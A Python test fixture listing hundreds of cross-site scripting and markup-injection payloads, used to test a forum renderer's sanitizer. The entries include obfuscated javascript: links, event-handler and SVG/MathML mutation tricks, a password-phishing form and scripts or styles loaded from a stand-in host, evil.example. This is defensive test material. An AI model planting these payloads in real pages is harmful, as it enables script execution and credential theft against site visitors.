# ruff: noqa: E501
"""Hostile post bodies: markup and addresses built to run script in a reader's
browser, spoof an attribution, hide a link's target, or exhaust the renderer.

Every payload that could run tries to set ``window.__pwned = true`` (the browser
test's trap), so a payload that works is caught even when dialogs are blocked.
Each entry is a (name, body) pair; names are unique. CORPUS holds them all, in
the groups below. No body holds a NUL character (the forms refuse it) and none is
longer than the 50,000-character limit. HOSTILE_NAME and HOSTILE_SIGNATURE are for
the member who posts them.
"""

PWN = "window.__pwned=true"
BODY_MAX = 50_000

SCRIPT_TAGS = [
    ("script-plain", f"<script>{PWN}</script>"),
    ("script-mixed-case", f"<ScRiPt>{PWN}</sCrIpT>"),
    ("script-upper-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-type-module", f'<script type="module">{PWN}</script>'),
    ("script-split-by-tag", f"<scr<script>ipt>{PWN}</scr</script>ipt>"),
    ("script-split-by-newline", f"<scr\nipt>{PWN}</scr\nipt>"),
    ("script-split-by-comment", f"<scr<!-- -->ipt>{PWN}</script>"),
    ("script-nested-angles", f"<<script>script>{PWN}<</script>/script>"),
    ("script-nested-twice", f"<script><script>{PWN}</script></script>"),
    ("script-in-code-span", f"Try `<script>{PWN}</script>` in the console."),
    ("script-in-double-code-span", f"``<script>{PWN}</script>``"),
    ("script-in-fence", f"```html\n<script>{PWN}</script>\n```"),
    ("script-in-tilde-fence", f"~~~\n<script>{PWN}</script>\n~~~"),
    (
        "script-breaking-out-of-fence",
        f"```\n</code></pre><script>{PWN}</script>\n```",
    ),
    (
        "script-in-fence-info-string",
        f'```"><script>{PWN}</script>\ncode\n```',
    ),
    ("script-in-indented-code", f"Code:\n\n    <script>{PWN}</script>\n"),
    ("script-in-unclosed-fence", f"```\n<script>{PWN}</script>"),
    ("script-in-blockquote", f"> <script>{PWN}</script>"),
    ("script-in-list", f"- one\n- <script>{PWN}</script>\n- three"),
    ("script-in-heading", f"# <script>{PWN}</script>"),
    ("script-in-setext-heading", f"<script>{PWN}</script>\n==="),
    ("script-in-table-cell", f"| a | b |\n|---|---|\n| <script>{PWN}</script> | 2 |"),
    ("script-in-link-text", f"[<script>{PWN}</script>](https://example.org/)"),
    ("script-in-image-alt", f"![<script>{PWN}</script>](https://example.org/i.png)"),
    ("script-in-link-title", f'[x](https://example.org/ "<script>{PWN}</script>")'),
    ("script-in-html-comment", f"<!--<script>{PWN}</script>-->"),
    ("script-in-cdata", f"<![CDATA[<script>{PWN}</script>]]>"),
    ("script-as-entities", f"&lt;script&gt;{PWN}&lt;/script&gt;"),
    ("script-as-numeric-entities", f"&#60;script&#62;{PWN}&#60;/script&#62;"),
    ("script-in-div-block", f"<div>\n<script>{PWN}</script>\n</div>"),
    ("script-in-template", f"<template><script>{PWN}</script></template>"),
    ("script-in-textarea", f"<textarea></textarea><script>{PWN}</script></textarea>"),
    (
        "script-after-noscript",
        f'<noscript><p title="</noscript><script>{PWN}</script>">',
    ),
    ("script-in-xmp", f"<xmp><script>{PWN}</script></xmp>"),
    ("script-escaped-bracket", f"\\<script>{PWN}\\</script>"),
]

EVENT_HANDLERS = [
    ("onerror-img", f"<img src=x onerror={PWN}>"),
    ("onerror-img-upper", f'<IMG SRC=x ONERROR="{PWN}">'),
    ("onerror-img-self-closing", f'<img src=x onerror="{PWN}"/>'),
    ("onerror-img-slash-separator", f"<img/src=x/onerror={PWN}>"),
    ("onerror-img-backticks", f"<img src=`x` onerror=`{PWN}`>"),
    ("onload-svg", f"<svg onload={PWN}>"),
    ("onload-svg-slash", f"<svg/onload={PWN}>"),
    ("onload-body", f"<body onload={PWN}>"),
    (
        "ontoggle-details",
        f"<details open ontoggle={PWN}><summary>x</summary></details>",
    ),
    ("onmouseover-div", f'<div onmouseover="{PWN}">hover me</div>'),
    ("onclick-anchor", f'<a href="#" onclick="{PWN}">click</a>'),
    ("onfocus-autofocus-input", f"<input autofocus onfocus={PWN}>"),
    ("onerror-video-source", f'<video><source onerror="{PWN}"></video>'),
    ("onerror-audio", f"<audio src=x onerror={PWN}>"),
    ("onstart-marquee", f"<marquee onstart={PWN}>x</marquee>"),
    ("onpointerenter-paragraph", f"<p onpointerenter={PWN}>move here</p>"),
    (
        "onanimationstart-style",
        f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={PWN}>x</b>",
    ),
    ("handler-in-bold", f"**<img src=x onerror={PWN}>**"),
    ("handler-in-quote", f"> quoted\n> <img src=x onerror={PWN}>"),
    ("handler-in-list", f"- item <svg onload={PWN}>"),
    ("handler-in-table", f"| a |\n|---|\n| <img src=x onerror={PWN}> |"),
    ("handler-in-heading", f"## Title <img src=x onerror={PWN}>"),
    ("handler-after-link-title", f'[x](https://example.org/ "t" onmouseover="{PWN}")'),
    ("handler-in-image-address", f'![x](https://example.org/i.png" onerror="{PWN})'),
    ("handler-in-image-alt", f'![x" onerror="{PWN}](https://example.org/i.png)'),
    ("handler-in-link-address", f'[x](https://example.org/"onmouseover="{PWN})'),
    ("handler-in-autolink", f'<https://example.org/"onmouseover="{PWN}">'),
    (
        "handler-via-link-label-html",
        f"[<img src=x onerror={PWN}>](https://example.org/)",
    ),
    (
        "handler-in-reference-title",
        f'[x][r]\n\n[r]: https://example.org/ "a" onmouseover="{PWN}"',
    ),
]

# javascript:, vbscript: and data: addresses, plainly and obfuscated.
DANGEROUS_URLS = [
    ("js-link", f"[x](javascript:{PWN})"),
    ("js-link-mixed-case", f"[x](JaVaScRiPt:{PWN})"),
    ("js-link-upper", f"[x](JAVASCRIPT:{PWN})"),
    ("js-link-comment-suffix", f"[x](javascript:{PWN}//https://example.org/)"),
    ("js-link-tab-entity", f"[x](jav&#x09;ascript:{PWN})"),
    ("js-link-decimal-tab-entity", f"[x](jav&#9;ascript:{PWN})"),
    ("js-link-named-tab-entity", f"[x](java&Tab;script:{PWN})"),
    ("js-link-named-newline-entity", f"[x](java&NewLine;script:{PWN})"),
    ("js-link-first-letter-entity", f"[x](&#106;avascript:{PWN})"),
    ("js-link-hex-entity", f"[x](&#x6A;avascript:{PWN})"),
    (
        "js-link-all-entities",
        f"[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{PWN})",
    ),
    ("js-link-padded-entities", f"[x](&#0000106;&#0000097;vascript:{PWN})"),
    ("js-link-colon-entity", f"[x](javascript&colon;{PWN})"),
    ("js-link-colon-decimal-entity", f"[x](javascript&#58;{PWN})"),
    ("js-link-newline-inside", f"[x](java\nscript:{PWN})"),
    ("js-link-leading-spaces", f"[x](   javascript:{PWN})"),
    ("js-link-leading-tab", f"[x](\tjavascript:{PWN})"),
    ("js-link-angle-brackets", f"[x](<javascript:{PWN}>)"),
    ("js-link-angle-brackets-space", f"[x](< javascript:{PWN}>)"),
    ("js-link-control-char-prefix", f"[x](\x01javascript:{PWN})"),
    ("js-link-control-char-inside", f"[x](java\x0bscript:{PWN})"),
    ("js-link-escape-char-inside", f"[x](java\x1bscript:{PWN})"),
    ("js-link-delete-char-inside", f"[x](java\x7fscript:{PWN})"),
    ("js-link-backslash-escape", f"[x](javascript\\:{PWN})"),
    ("js-link-percent-letter", f"[x](%6Aavascript:{PWN})"),
    ("js-link-percent-colon", f"[x](javascript%3A{PWN})"),
    ("js-link-entity-parens", "[x](javascript:alert&lpar;1&rpar;)"),
    ("js-link-nbsp-prefix", f"[x](\u00a0javascript:{PWN})"),
    ("js-link-in-title-position", f'[x]("javascript:{PWN}")'),
    ("js-image", f"![x](javascript:{PWN})"),
    ("js-image-entity", f"![x](&#106;avascript:{PWN})"),
    ("js-reference", f"[x][r]\n\n[r]: javascript:{PWN}"),
    ("js-reference-entity", f"[x][r]\n\n[r]: jav&#x09;ascript:{PWN}"),
    ("js-reference-angle", f"[x][r]\n\n[r]: <javascript:{PWN}>"),
    ("js-reference-collapsed", f"[r][]\n\n[r]: JavaScript:{PWN}"),
    ("js-reference-shortcut", f"[r]\n\n[r]: javascript:{PWN}"),
    ("js-reference-image", f"![x][r]\n\n[r]: javascript:{PWN}"),
    ("js-autolink", f"<javascript:{PWN}>"),
    ("js-autolink-upper", f"<JAVASCRIPT:{PWN}>"),
    ("js-autolink-entity", f"<jav&#x09;ascript:{PWN}>"),
    ("js-bare-text", f"javascript:{PWN} and www.evil.example/javascript:{PWN}"),
    ("vbscript-link", "[x](vbscript:msgbox(1))"),
    ("vbscript-link-mixed-case", "[x](VbScRiPt:msgbox(1))"),
    ("vbscript-autolink", "<vbscript:msgbox(1)>"),
    ("vbscript-reference", "[x][v]\n\n[v]: vbscript:msgbox(1)"),
    (
        "data-html-base64-link",
        "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD10cnVlPC9zY3JpcHQ+)",
    ),
    ("data-html-link", f"[x](data:text/html,<script>{PWN}</script>)"),
    ("data-html-link-upper", f"[x](DATA:text/html,<script>{PWN}</script>)"),
    ("data-png-image", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    (
        "data-svg-image",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
    ),
    ("data-autolink", f"<data:text/html,<script>{PWN}</script>>"),
    ("data-reference", "[x][d]\n\n[d]: data:text/html;base64,PHNjcmlwdD4=)"),
    ("file-link", "[x](file:///etc/passwd)"),
    ("raw-anchor-js", f'<a href="javascript:{PWN}">raw</a>'),
    ("raw-anchor-js-unquoted", f"<a href=javascript:{PWN}>raw</a>"),
    ("raw-anchor-js-entity", f'<a href="&#x6A;avascript:{PWN}">raw</a>'),
    (
        "polyglot-link",
        "[x](jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/*%20*/oNcliCk=alert()%20)//%0D%0A)",
    ),
    (
        "polyglot-body",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a"
        "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd="
        f"{PWN}//>\\x3e",
    ),
]

SVG_AND_MATHML = [
    ("svg-script", f"<svg><script>{PWN}</script></svg>"),
    (
        "svg-anchor-xlink",
        f'<svg><a xlink:href="javascript:{PWN}"><text x=0 y=20>x</text></a></svg>',
    ),
    ("svg-animate-onbegin", f"<svg><animate onbegin={PWN} attributeName=x dur=1s>"),
    (
        "svg-set-href",
        f'<svg><a><set attributeName=href to="javascript:{PWN}"/><text y=20>x</text></a></svg>',
    ),
    (
        "svg-foreignobject-iframe",
        '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=true</script>"></iframe></foreignObject></svg>',
    ),
    ("svg-style-mutation", f"<svg><style><img src=x onerror={PWN}></style></svg>"),
    (
        "svg-cdata-mutation",
        f'<svg><![CDATA[><image xlink:href="]]><img src=x onerror={PWN}>]]></svg>',
    ),
    ("svg-in-markdown-image", "![x](https://example.org/x.svg)"),
    ("math-xlink", f'<math><mi xlink:href="javascript:{PWN}">x</mi></math>'),
    (
        "math-maction",
        f'<math><maction actiontype="statusline" xlink:href="javascript:{PWN}">x</maction></math>',
    ),
    (
        "math-mglyph-mutation",
        f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    ),
    (
        "math-annotation-html",
        f'<math><annotation-xml encoding="text/html"><img src=x onerror={PWN}></annotation-xml></math>',
    ),
    ("svg-in-code-and-quote", f"> `<svg onload={PWN}>`\n> <svg onload={PWN}>"),
]

STYLES = [
    (
        "style-attribute-overlay",
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</p>',
    ),
    ("style-tag-hide-page", "<style>body{display:none}</style>"),
    ("style-tag-import", "<style>@import url(https://evil.example/x.css);</style>"),
    ("style-background-js", f'<div style="background:url(javascript:{PWN})">x</div>'),
    ("style-expression", f"<p style=x:expression({PWN})>x</p>"),
    (
        "style-behavior",
        '<span style="behavior:url(https://evil.example/x.htc)">x</span>',
    ),
    (
        "style-tag-in-quote",
        '> <style>*{background:url("https://evil.example/track")}</style>',
    ),
    ("style-table-alignment", "| a | b |\n|:-:|--:|\n| 1 | 2 |"),
]

EMBEDDING = [
    ("iframe-js", f'<iframe src="javascript:{PWN}"></iframe>'),
    (
        "iframe-srcdoc",
        '<iframe srcdoc="<script>parent.__pwned=true</script>"></iframe>',
    ),
    (
        "iframe-remote",
        '<iframe src="https://evil.example/" width=1000 height=1000></iframe>',
    ),
    ("object-js", f'<object data="javascript:{PWN}"></object>'),
    (
        "object-swf",
        '<object type="application/x-shockwave-flash" data="x.swf"></object>',
    ),
    ("embed-js", f'<embed src="javascript:{PWN}">'),
    (
        "form-action-js",
        f'<form action="javascript:{PWN}"><button>Continue</button></form>',
    ),
    (
        "form-password-phish",
        '<form action="https://evil.example/"><input name=password type=password placeholder="Confirm your password"><button>Sign in</button></form>',
    ),
    (
        "button-formaction",
        f'<form><button formaction="javascript:{PWN}">x</button></form>',
    ),
    (
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ),
    (
        "meta-refresh-js",
        f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    ),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("link-import", f"<link rel=import href=data:text/html,<script>{PWN}</script>>"),
    ("frameset-onload", f"<frameset onload={PWN}>"),
    ("isindex-action", f"<isindex action=javascript:{PWN} type=image>"),
    ("applet", '<applet code="x.class"></applet>'),
]

ATTRIBUTION = [
    (
        "fake-attribution-js",
        f"[Admin wrote:](javascript:{PWN})\n\nPlease sign in again to keep your account.",
    ),
    (
        "fake-attribution-quote-js",
        f"> [Admin wrote:](javascript:{PWN})\n>\n> Your account is suspended. Click above.",
    ),
    (
        "fake-attribution-internal",
        "> [Admin wrote:](/p/1/)\n>\n> Everyone in this topic is banned.",
    ),
    (
        "fake-attribution-handler",
        f"> **Moderator** wrote:\n> <img src=x onerror={PWN}>",
    ),
    (
        "fake-attribution-entity-js",
        f"> [Admin wrote:](&#106;avascript:{PWN})\n>\n> Read this.",
    ),
    (
        "fake-attribution-reference",
        f"> [Admin wrote:][a]\n>\n> Read this.\n\n[a]: javascript:{PWN}",
    ),
    (
        "title-break-double-quote",
        f'[x](https://example.org/ "title\\" onmouseover=\\"{PWN}")',
    ),
    ("title-break-single-quote", f"[x](https://example.org/ 'a' onmouseover='{PWN}')"),
    ("title-break-unquoted", f'[x](https://example.org/ "a" onmouseover={PWN})'),
    ("title-break-paren", f'[x](https://example.org/ (a" onmouseover="{PWN}))'),
    (
        "title-break-entity-quote",
        f'[x](https://example.org/ "&quot; onmouseover=&quot;{PWN}")',
    ),
    ("label-with-quotes", f'["x" onmouseover="{PWN}](https://example.org/)'),
    (
        "attribution-with-handler-after",
        f'[Tomás Varga wrote:](/p/1/ "Tomás Varga") <svg onload={PWN}>',
    ),
    (
        "nested-fake-quotes",
        f"> > [Admin wrote:](javascript:{PWN})\n> >\n> > Deep fake.\n>\n> Reply.",
    ),
]

UNICODE = [
    ("rlo-in-link-text", "[https://example.org/\u202egnp.exe](https://evil.example/)"),
    ("rlo-in-link-address", "[x](https://example.org/\u202eexe.gnp)"),
    ("rlo-in-name", "\u202eAdmin wrote: trust me\u202c"),
    (
        "lro-and-isolates",
        "[\u2066Admin\u2069 wrote:](https://example.org/\u2067x\u2069)",
    ),
    ("zero-width-space-in-js", f"[x](java\u200bscript:{PWN})"),
    ("zero-width-space-prefix-js", f"[x](\u200bjavascript:{PWN})"),
    ("bom-prefix-js", f"[x](\ufeffjavascript:{PWN})"),
    ("word-joiner-in-js", f"[x](java\u2060script:{PWN})"),
    ("soft-hyphen-in-js", f"[x](java\u00adscript:{PWN})"),
    ("zero-width-joiner-in-name", f"[Ad\u200dmin wrote:](javascript:{PWN})"),
    ("zero-width-in-autolink", f"<java\u200bscript:{PWN}>"),
    ("zero-width-in-host", "[x](https://ex\u200bample.org/)"),
    ("cyrillic-in-scheme", f"[x](jav\u0430script:{PWN})"),
    ("fullwidth-scheme", f"[x](\uff4aavascript:{PWN})"),
]


def _long(unit: str, total: int) -> str:
    return (unit * (total // len(unit) + 1))[:total]


LONG_AND_DEEP = [
    ("long-handlers", _long(f"<img src=x onerror={PWN}> ", 49_000)),
    ("long-js-links", _long(f"[x](javascript:{PWN}) ", 49_000)),
    ("long-script-single-line", "<script>" + "A" * 48_900 + "</script>"),
    ("long-at-limit", _long(f"<svg onload={PWN}>", BODY_MAX)),
    ("long-brackets", "[" * 48_000 + f"x](javascript:{PWN})"),
    ("deep-quote-1000", ">" * 1000 + f" <script>{PWN}</script>"),
    ("deep-quote-spaced-1000", "> " * 1000 + f"<img src=x onerror={PWN}>"),
    ("deep-list-1000", "- " * 1000 + f"<script>{PWN}</script>"),
    ("deep-ordered-list-1000", "1. " * 1000 + f"[x](javascript:{PWN})"),
    ("deep-quote-and-list-1000", "> - " * 500 + f"<svg onload={PWN}>"),
    ("deep-emphasis-1000", "*" * 1000 + f"<img src=x onerror={PWN}>" + "*" * 1000),
    ("deep-mixed-emphasis", "**_" * 500 + f"[x](javascript:{PWN})" + "_**" * 500),
    ("deep-brackets-1000", "[" * 1000 + "x" + "]" * 1000 + f"(javascript:{PWN})"),
    ("deep-links-1000", "[" * 1000 + "x" + f"](javascript:{PWN})" * 1000),
    ("deep-images-500", "![" * 500 + "x" + f"](javascript:{PWN})" * 500),
    ("deep-angles-1000", "<" * 1000 + f"script>{PWN}</script>"),
    ("deep-backticks-1000", "`" * 1000 + f"<script>{PWN}</script>" + "`" * 1000),
    (
        "nested-links-js",
        f"[[[x](javascript:{PWN})](javascript:{PWN})](javascript:{PWN})",
    ),
]

MISCELLANEOUS = [
    ("double-encoded-script", f"&amp;lt;script&amp;gt;{PWN}&amp;lt;/script&amp;gt;"),
    ("template-tags", "{{ request.user.password }} {% debug %} {% csrf_token %}"),
    ("plaintext-tag", f"<plaintext><script>{PWN}</script>"),
    ("title-tag", f"<title><script>{PWN}</script></title>"),
    ("noembed-tag", f"<noembed><img src=x onerror={PWN}></noembed>"),
    ("select-style-mutation", f"<select><style></select><img src=x onerror={PWN}>"),
    ("link-in-raw-attribute", f'<a href="[x](javascript:{PWN})">y</a>'),
    ("script-in-query-string", f"[x](https://example.org/?q=<script>{PWN}</script>)"),
    ("hr-then-script", f"***\n<script>{PWN}</script>"),
    ("footnote-like-js", f"Text[^1]\n\n[^1]: javascript:{PWN}"),
    (
        "html-entity-tag-in-link",
        f"[x](https://example.org/) &lt;img src=x onerror={PWN}&gt;",
    ),
    (
        "carriage-returns",
        f"line one\r\n<script>{PWN}</script>\r\n[x](javascript:{PWN})",
    ),
    ("strikethrough-wrapped", f"~~<img src=x onerror={PWN}>~~"),
    ("hard-break-then-script", f"line  \n<script>{PWN}</script>"),
    (
        "table-with-many-payloads",
        "| <script>a</script> | <img onerror=x> |\n|---|---|\n"
        + f"| [x](javascript:{PWN}) | <svg onload={PWN}> |",
    ),
]

GROUPS = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "dangerous URLs": DANGEROUS_URLS,
    "SVG and MathML": SVG_AND_MATHML,
    "styles": STYLES,
    "embedding tags": EMBEDDING,
    "attribution injection": ATTRIBUTION,
    "unicode tricks": UNICODE,
    "long and deep": LONG_AND_DEEP,
    "miscellaneous": MISCELLANEOUS,
}

CORPUS: list[tuple[str, str]] = [entry for group in GROUPS.values() for entry in group]

# Who posts the corpus: a display name (at most 60 characters) that appears in
# post headers and in the attribution of every quote, and a signature shown
# under every post.
HOSTILE_NAME = "\u202e[Admin](javascript:window.__pwned=true)<svg/onload=x>"
HOSTILE_SIGNATURE = (
    f"<script>{PWN}</script> [Admin wrote:](javascript:{PWN}) "
    f'<img src=x onerror="{PWN}"> ![x](data:text/html,<script>{PWN}</script>)'
)
